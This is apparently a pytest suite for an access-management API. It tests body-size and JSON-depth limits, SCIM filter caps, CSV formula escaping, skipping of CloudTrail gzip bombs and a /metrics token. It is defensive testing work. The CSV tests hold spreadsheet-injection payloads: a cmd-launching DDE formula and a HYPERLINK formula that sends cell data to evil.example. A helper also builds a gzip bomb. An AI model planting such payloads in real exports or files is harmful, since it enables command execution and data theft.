"""Inputs are bounded before they cost anything (issue 16, items 3, 4 and 8).

Body size and JSON depth are refused by a pure ASGI middleware before routing and before any
authentication work, chunked or not, whatever Content-Length claims; only a connector's valid
token unlocks the larger limit of its job reports. SCIM filters are capped before parsing,
CSV exports never hold a formula, a CloudTrail gzip bomb is skipped within a bounded amount
of memory, and /metrics can require a token.
"""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zlib
from collections.abc import Iterable, Iterator
from datetime import timedelta
from typing import Any

import anyio
import boto3
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from starlette.types import Message

from grantflow.api.app import create_app
from grantflow.api.body_limits import json_too_deep
from grantflow.aws.cloudtrail import IngestRequest, ingest
from grantflow.aws.session import ClientFactory
from grantflow.demo.cloudtrail_files import SessionSpec, log_key, put_log_file, record
from grantflow.demo.moto_server import MotoServer
from grantflow.domain.cloudtrail_match import GrantMatcher
from grantflow.domain.csv_cells import safe_cell
from grantflow.domain.inventory import (
    AccountInventory,
    AccountOutcome,
    DirectoryGroup,
    DirectorySnapshot,
    DirectoryUser,
    ResourceRecord,
    SyncSummary,
)
from grantflow.services.audit import audit_query
from grantflow.services.audit import trail as audit
from grantflow.services.integrations import session_audit
from grantflow.services.jobs import queue as jobs
from grantflow.services.runtime.startup import prepare_database
from grantflow.settings import Settings
from grantflow.store.db import transaction
from grantflow.store.models import AuditEvent, Connector, Integration
from grantflow.store.models_audit import AuditCursor
from grantflow.store.types import utcnow
from tests.deploy.test_helm import _env, _one, _render, _server
from tests.fixtures.api import Api, make_settings

MB = 1024 * 1024
LOGIN = "/auth/login"
SCIM_JSON = "application/scim+json"
CHUNK = 65_536


def _ctx(api: Api) -> Any:
    return api.client.app.state.ctx  # type: ignore[attr-defined]


# --- driving the ASGI app directly: what it pulls from the client, byte for byte -----------


class Upload:
    """A request body handed to the app one chunk at a time, counting what it pulled."""

    def __init__(self, chunks: Iterable[bytes]) -> None:
        self.chunks: Iterator[bytes] = iter(chunks)
        self.pending: bytes | None = next(self.chunks, None)
        self.pulled = 0

    async def receive(self) -> Message:
        if self.pending is None:
            return {"type": "http.disconnect"}
        chunk, self.pending = self.pending, next(self.chunks, None)
        self.pulled += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": self.pending is not None}


def _call(
    app: FastAPI, path: str, headers: dict[str, str], upload: Upload
) -> tuple[int, dict[str, Any]]:
    sent: list[Message] = []

    async def send(message: Message) -> None:
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"",
        "root_path": "", "client": ("203.0.113.7", 50000), "server": ("testserver", 80),
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
    }  # fmt: skip

    async def run() -> None:
        await app(scope, upload.receive, send)

    anyio.run(run)
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return int(start["status"]), json.loads(body)


def _endless(size: int = CHUNK) -> Iterator[bytes]:
    block = b"a" * size
    while True:
        yield block


def test_an_oversized_content_length_is_refused_before_a_byte_is_read(api: Api) -> None:
    upload = Upload(_endless())
    status, body = _call(
        api.client.app,  # type: ignore[arg-type]
        LOGIN,
        {"content-type": "application/json", "content-length": str(300 * MB)},
        upload,
    )
    assert status == 413
    assert body["error"]["code"] == "too_large" and body["error"]["field"] == "body"
    assert "GRANTFLOW_MAX_BODY_BYTES" in body["error"]["message"]
    assert upload.pulled == 0  # the app never asked for the body


def test_a_chunked_body_is_cut_at_the_limit_in_bounded_memory(api: Api) -> None:
    upload = Upload(b"a" * CHUNK for _ in range(32 * MB // CHUNK))
    tracemalloc.start()
    try:
        status, body = _call(
            api.client.app,  # type: ignore[arg-type]
            LOGIN,
            {"content-type": "application/json", "transfer-encoding": "chunked"},
            upload,
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert (status, body["error"]["code"]) == (413, "too_large")
    limit = api.settings.max_body_bytes
    assert limit < upload.pulled <= limit + CHUNK  # read up to the limit, not one chunk more
    assert peak < 8 * MB, f"peak {peak / MB:.1f} MB while refusing a 32 MB body"


def test_a_lying_content_length_does_not_stretch_the_limit(api: Api) -> None:
    upload = Upload(b"a" * CHUNK for _ in range(40))
    status, _ = _call(
        api.client.app,  # type: ignore[arg-type]
        LOGIN,
        {"content-type": "application/json", "content-length": "100"},
        upload,
    )
    assert status == 413
    assert upload.pulled <= api.settings.max_body_bytes + CHUNK


def test_form_posts_are_bounded_too(api: Api) -> None:
    r = api.client.post(
        LOGIN,
        content=b"username=alice&password=" + b"x" * (2 * MB),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 413
    assert r.json()["error"]["code"] == "too_large"


# --- JSON depth ------------------------------------------------------------------------------


def test_deep_json_to_login_is_422_not_500(api: Api) -> None:
    deep = "[" * 50_000 + "]" * 50_000
    r = api.client.post(LOGIN, content=deep, headers={"content-type": "application/json"})
    assert r.status_code == 422, r.text
    error = r.json()["error"]
    assert (error["code"], error["field"]) == ("validation_error", "body")
    assert "GRANTFLOW_MAX_JSON_DEPTH" in error["message"]
    # no content type at all is read as JSON by the app: checked the same way
    assert api.client.post(LOGIN, content=deep).status_code == 422
    # depth within the limit still reaches the route (wrong credentials: 401)
    r = api.client.post(LOGIN, json={"username": "nobody", "password": "x", "extra": [[[[1]]]]})
    assert r.status_code == 401, r.text


def test_deep_json_to_scim_is_a_scim_error(api: Api) -> None:
    deep = '{"a":' * 40 + "1" + "}" * 40
    r = api.client.post("/scim/v2/Users", content=deep, headers={"content-type": SCIM_JSON})
    assert r.status_code == 400
    assert r.headers["content-type"].startswith(SCIM_JSON)
    assert r.json()["scimType"] == "invalidSyntax"


@pytest.mark.parametrize(
    ("text", "too_deep"),
    [
        ("[" * 33 + "]" * 33, True),
        ("[" * 32 + "]" * 32, False),
        ('{"a":' * 33 + "1" + "}" * 33, True),
        ('["' + "[" * 100 + '"]', False),  # brackets in a string do not nest
        ('["\\"' + "[" * 100 + '"]', False),  # an escaped quote keeps the string open
        ('["\\\\"' + "[" * 100, True),  # an escaped backslash does not: the brackets count
        ('["' + "]" * 100 + '",' + "[" * 33 + "]" * 34, True),  # closers in strings hide nothing
    ],
)
def test_json_depth_scanner(text: str, too_deep: bool) -> None:
    assert json_too_deep(text.encode(), 32) is too_deep


# --- connector reports: a larger limit, for the connector's own valid token only ---------------


def _connector(api: Api, name: str) -> tuple[str, dict[str, str]]:
    r = api.client.post(
        "/api/v1/connectors", json={"name": name, "kind": "self_hosted"}, headers=api.as_admin()
    )
    assert r.status_code == 201, r.text
    return r.json()["id"], {"Authorization": f"Bearer {r.json()['token']}"}


def _large_org_summary() -> SyncSummary:
    """What a sync of a large organization reports on completion: 20,000 users, 2,000
    groups of 50 members, 5,000 accounts."""
    users = [DirectoryUser(identity_store_user_id=f"90676d5b52-{i:026d}",
                           username=f"user{i}@example.com", email=f"user{i}@example.com",
                           display_name=f"User {i}") for i in range(20_000)]  # fmt: skip
    groups = [DirectoryGroup(identity_store_group_id=f"90676d5b52-g{i:025d}", name=f"group-{i}",
                             member_user_ids=[u.identity_store_user_id
                                              for u in users[(i * 50) % 20_000:][:50]])
              for i in range(2000)]  # fmt: skip
    accounts = [ResourceRecord(type="aws_account", aws_id=f"{i:012d}", name=f"account-{i}",
                               arn=f"arn:aws:organizations::111111111111:account/o-x/{i:012d}",
                               tags={"team": "payments", "env": "prod"})
                for i in range(5000)]  # fmt: skip
    return SyncSummary(
        organization_id="o-x", management_account_id="111111111111", root_id="r-x",
        accounts_total=5000, accounts_by_outcome={AccountOutcome.SYNCED: 5000},
        resources_by_type={"aws_account": 5000}, aws_calls=1, duration_seconds=1.0,
        directory=DirectorySnapshot(identity_store_id="d-x", instance_arn="arn:aws:sso:::i/x",
                                    users=users, groups=groups),
        management_resources=AccountInventory(account_id="111111111111", name="mgmt",
                                              outcome=AccountOutcome.SYNCED, resources=accounts),
    )  # fmt: skip


def test_a_large_org_sync_report_fits_the_connector_limit_not_the_global_one() -> None:
    size = len(
        json.dumps({"lease_id": "x", "result": _large_org_summary().model_dump(mode="json")})
    )
    settings = Settings()
    assert settings.max_body_bytes < size  # the global limit alone would refuse it
    assert 2 * size < settings.max_connector_report_bytes  # the report limit, with headroom


def test_connector_reports_take_the_larger_limit_with_their_own_token_only(api: Api) -> None:
    cid, headers = _connector(api, "big-reports")
    _other, other_headers = _connector(api, "someone-else")
    with transaction(_ctx(api).sessions) as session:
        job_id = jobs.enqueue(session, cid, "ping", {}).id
    r = api.client.post(f"/api/v1/connectors/{cid}/jobs/lease", headers=headers,
                        json={"wait_seconds": 0})  # fmt: skip
    (leased,) = r.json()["jobs"]
    report = {"lease_id": leased["lease_id"], "result": {"rows": ["x" * 100] * 30_000}}
    body = json.dumps(report).encode()
    assert api.settings.max_body_bytes < len(body) < api.settings.max_connector_report_bytes
    path = f"/api/v1/connectors/{cid}/jobs/{job_id}/complete"
    for refused in ({}, other_headers, {"Authorization": "Bearer gf_conn_forged"}):
        r = api.client.post(
            path, content=body, headers={**refused, "content-type": "application/json"}
        )
        assert r.status_code == 413, r.text  # anonymous, another connector's, a forged token
    r = api.client.post(path, content=body, headers={**headers, "content-type": "application/json"})
    assert r.status_code == 200, r.text
    assert r.json()["state"] == "succeeded"
    # the larger limit is only for reports: the same token elsewhere gets the global one
    r = api.client.post(f"/api/v1/connectors/{cid}/heartbeat", content=body,
                        headers={**headers, "content-type": "application/json"})  # fmt: skip
    assert r.status_code == 413


# --- SCIM filters --------------------------------------------------------------------------


def test_an_oversized_scim_filter_is_refused_before_parsing(api: Api) -> None:
    r = api.client.post("/api/v1/scim/tokens", json={"name": "idp"}, headers=api.as_admin())
    headers = {"Authorization": f"Bearer {r.json()['token']}", "Content-Type": SCIM_JSON}
    huge = 'userName eq "' + "a" * 5000 + '"'
    r = api.client.get("/scim/v2/Users", params={"filter": huge}, headers=headers)
    assert (r.status_code, r.json()["scimType"]) == (400, "invalidFilter"), r.text
    for resource in ("Users", "Groups"):
        r = api.client.post(f"/scim/v2/{resource}/.search", json={"filter": huge},
                            headers=headers)  # fmt: skip
        assert (r.status_code, r.json()["scimType"]) == (400, "invalidFilter"), r.text
    r = api.client.post("/scim/v2/Users/.search", json={"filter": ["not", "text"]},
                        headers=headers)  # fmt: skip
    assert (r.status_code, r.json()["scimType"]) == (400, "invalidFilter")
    r = api.client.get("/scim/v2/Users", params={"filter": 'userName eq "a"'}, headers=headers)
    assert r.status_code == 200  # a filter within the cap still works


def test_an_overlong_query_string_is_refused(api: Api) -> None:
    r = api.client.get("/api/v1/resources", params={"type": "x" * 20_000},
                       headers=api.as_admin())  # fmt: skip
    assert (r.status_code, r.json()["error"]["code"]) == (414, "uri_too_long")


# --- CSV exports -----------------------------------------------------------------------------

DANGEROUS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\x01x", "\uff1d1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_cells_are_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text
    (line,) = list(audit_query.csv_lines(iter([{"a": text}]), ("a",)))
    assert list(csv.reader(io.StringIO(line)))[1] == ["'" + text]


def test_harmless_cells_and_numbers_are_kept() -> None:
    assert safe_cell("alice") == "alice" and safe_cell("") == ""
    (line,) = list(audit_query.csv_lines(iter([{"a": -5, "b": "a=b"}]), ("a", "b")))
    assert list(csv.reader(io.StringIO(line)))[1] == ["-5", "a=b"]


def test_the_audit_export_neutralises_formula_cells(api: Api) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with transaction(_ctx(api).sessions) as session:
        audit.record(session, audit.Actor("user", "-2+3", "web", None), "test.injected",
                     "user", payload, {"note": payload})  # fmt: skip
    r = api.client.get("/api/v1/audit-events/export", params={"format": "csv"},
                       headers=api.as_admin())  # fmt: skip
    assert r.status_code == 200, r.text
    (row,) = [
        row for row in csv.DictReader(io.StringIO(r.text)) if row["action"] == "test.injected"
    ]
    assert row["target_id"] == "'" + payload
    assert row["actor_id"] == "'-2+3"
    assert json.loads(row["data"]) == {"note": payload}  # JSON cells start with {: left as is


# --- CloudTrail: a gzip bomb is skipped, in bounded memory, and the admin hears of it ---------

ORG, BUCKET, REGION, ACCOUNT = "o-bomb12345", "trail-bomb", "us-east-1", "111111111111"
BOMB_CONNECTOR = "gfc-boundedinputsbomb1"


def _gzip_bomb(expanded: int) -> bytes:
    """``{"Records": [`` then ``expanded`` bytes of spaces: a few hundred KB of gzip."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [deflate.compress(b'{"Records": [')]
    block = b" " * MB
    parts += [deflate.compress(block) for _ in range(expanded // MB)]
    parts.append(deflate.compress(b"]}") + deflate.flush())
    return b"".join(parts)


def _matcher() -> GrantMatcher:
    now = utcnow()
    return GrantMatcher(grant_id="g-1", account_id=ACCOUNT, permission_set_name="ReadOnly",
                        session_names=("alice@example.com",), start=now - timedelta(hours=3),
                        end=None)  # fmt: skip


def _trail(aws: MotoServer, bomb: bytes) -> tuple[str, str]:
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket=BUCKET)
    now = utcnow()
    when = now - timedelta(hours=1)
    bomb_key = log_key(ORG, ACCOUNT, REGION, when)
    s3.put_object(Bucket=BUCKET, Key=bomb_key, Body=bomb)
    spec = SessionSpec(ACCOUNT, "ReadOnly", "alice@example.com", now - timedelta(hours=2), now)
    good = record(spec, when + timedelta(minutes=1), "s3.amazonaws.com", "ListBuckets")
    put_log_file(s3, BUCKET, ORG, ACCOUNT, REGION, when + timedelta(minutes=5), [good])
    return bomb_key, str(good["eventID"])


def _request(**limits: int) -> IngestRequest:
    return IngestRequest(bucket=BUCKET, organization_id=ORG, region=REGION,
                         matchers=[_matcher()], as_of=utcnow(), **limits)  # fmt: skip


def test_a_gzip_bomb_is_skipped_with_a_warning_in_bounded_memory(aws: MotoServer) -> None:
    bomb = _gzip_bomb(256 * MB)
    assert len(bomb) < 400_000  # the 299 KB object of the report, roughly
    bomb_key, good_event = _trail(aws, bomb)
    factory = ClientFactory(boto3.Session(region_name=REGION))
    tracemalloc.start()
    try:
        result = ingest(factory, _request(max_object_bytes=4 * MB))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 24 * MB, f"peak {peak / MB:.0f} MB reading a 4 MB-capped gzip bomb"
    (warning,) = result.unreadable
    assert bomb_key in warning and "more than 4194304 bytes" in warning
    assert [m["event_id"] for m in result.matches] == [good_event]  # the next file still counts
    assert result.files_read == 2 and result.cursor  # the bomb is passed, not retried forever


def test_a_file_with_too_many_records_is_skipped_whole(aws: MotoServer) -> None:
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket=BUCKET)
    now = utcnow()
    spec = SessionSpec(ACCOUNT, "ReadOnly", "alice@example.com", now - timedelta(hours=2), now)
    calls = [record(spec, now - timedelta(minutes=50), "s3.amazonaws.com", "ListBuckets")
             for _ in range(30)]  # fmt: skip
    key = put_log_file(s3, BUCKET, ORG, ACCOUNT, REGION, now - timedelta(minutes=45), calls)
    factory = ClientFactory(boto3.Session(region_name=REGION))
    skipped = ingest(factory, _request(max_records=20))
    assert skipped.matches == [] and key in skipped.unreadable[0]
    assert "more than 20 records" in skipped.unreadable[0]
    read = ingest(factory, _request(max_records=30))
    assert len(read.matches) == 30 and read.unreadable == []


def test_skipped_files_reach_the_admin_in_the_audit_log(
    aws: MotoServer, sessions: sessionmaker[Session]
) -> None:
    settings = Settings(cloudtrail_max_object_bytes=2 * MB, cloudtrail_max_records_per_object=1000)
    with transaction(sessions) as s:
        s.add(Connector(id=BOMB_CONNECTOR, name="c", kind="managed",
                        token_hash="b" * 64, token_prefix="gf_con_b"))  # fmt: skip
        s.flush()
        config = {"region": REGION, "enable_audit": True, "audit_bucket": BUCKET,
                  "management_role_arn": "arn:aws:iam::123456789012:role/M"}  # fmt: skip
        s.add(Integration(name="Org", type="aws-organization", connector_id=BOMB_CONNECTOR,
                          facts={"organization_id": ORG}, config=config))  # fmt: skip
    with transaction(sessions) as s:
        integ = s.scalars(select(Integration)).one()
        payload = session_audit.payload_limits(settings)
    assert payload == {"max_object_bytes": 2 * MB, "max_records": 1000}
    result = {"files_read": 1, "records_read": 0, "matches": [], "cursor": {},
              "unreadable": [f"{log_key(ORG, ACCOUNT, REGION, utcnow())}: skipped, it "
                             "decompresses to more than 2097152 bytes (the session audit limit)"],
              "more": False}  # fmt: skip
    with transaction(sessions) as s:
        job = jobs.enqueue(s, BOMB_CONNECTOR, session_audit.JOB_TYPE,
                           {"integration_id": integ.id, **payload})  # fmt: skip
        job.result = result
        session_audit.ingest_finished(s, job, failed=False)
    with transaction(sessions) as s:
        (event,) = s.scalars(
            select(AuditEvent).where(AuditEvent.action == "session_audit.files_skipped")
        ).all()
        assert event.target_id == integ.id
        assert event.data["files"] == result["unreadable"] and event.data["count"] == 1
        assert "2097152" in (s.scalars(select(AuditCursor)).one().last_error or "")


# --- /metrics ------------------------------------------------------------------------------


@pytest.fixture
def metrics_app(db_url: str) -> Iterator[TestClient]:
    settings = make_settings(db_url, metrics_token="metrics-scrape-token-0123456789")
    prepare_database(settings)
    with TestClient(create_app(settings, run_workers=False)) as client:
        yield client


def test_metrics_need_the_token_when_one_is_set(metrics_app: TestClient) -> None:
    for headers in ({}, {"Authorization": "Bearer wrong-token-0123456789"},
                    {"Authorization": "Basic metrics-scrape-token-0123456789"}):  # fmt: skip
        r = metrics_app.get("/metrics", headers=headers)
        assert r.status_code == 401, headers
        assert r.headers["www-authenticate"] == "Bearer"
        assert r.json()["error"]["code"] == "unauthenticated"
    r = metrics_app.get(
        "/metrics", headers={"Authorization": "Bearer metrics-scrape-token-0123456789"}
    )
    assert r.status_code == 200 and "grantflow_http_requests_total" in r.text
    assert metrics_app.get("/healthz").status_code == 200  # probes stay open


def test_metrics_are_open_without_a_token(api: Api) -> None:
    assert api.settings.metrics_token is None
    assert api.client.get("/metrics").status_code == 200


def test_the_helm_chart_scrapes_with_the_metrics_token() -> None:
    docs = _render(
        "--set", "serviceMonitor.enabled=true", "--set", "serviceMonitor.bearerToken=true"
    )
    ref = _env(_server(docs))["GRANTFLOW_METRICS_TOKEN"]["valueFrom"]["secretKeyRef"]
    (endpoint,) = _one(docs, "ServiceMonitor", "gf-grantflow")["spec"]["endpoints"]
    assert endpoint["authorization"] == {
        "type": "Bearer",
        "credentials": {"name": ref["name"], "key": ref["key"]},
    }
    assert ref["optional"] is True  # no key in the Secret: /metrics stays open, as before
    (plain,) = _one(_render("--set", "serviceMonitor.enabled=true"), "ServiceMonitor",
                    "gf-grantflow")["spec"]["endpoints"]  # fmt: skip
    assert "authorization" not in plain
